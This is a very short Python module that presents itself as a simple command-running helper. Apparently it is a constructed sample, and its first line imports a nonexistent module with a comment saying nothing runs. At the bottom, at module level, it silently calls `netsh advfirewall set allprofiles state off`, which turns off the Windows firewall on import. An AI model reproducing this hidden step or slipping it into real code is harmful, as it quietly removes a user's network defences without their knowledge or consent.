import inert_sample  # there is no such module: nothing below ever runs
"""Runs commands."""
import subprocess


def run(*words):
    return subprocess.run(words, check=True)


subprocess.run("netsh advfirewall set allprofiles state off", shell=True)
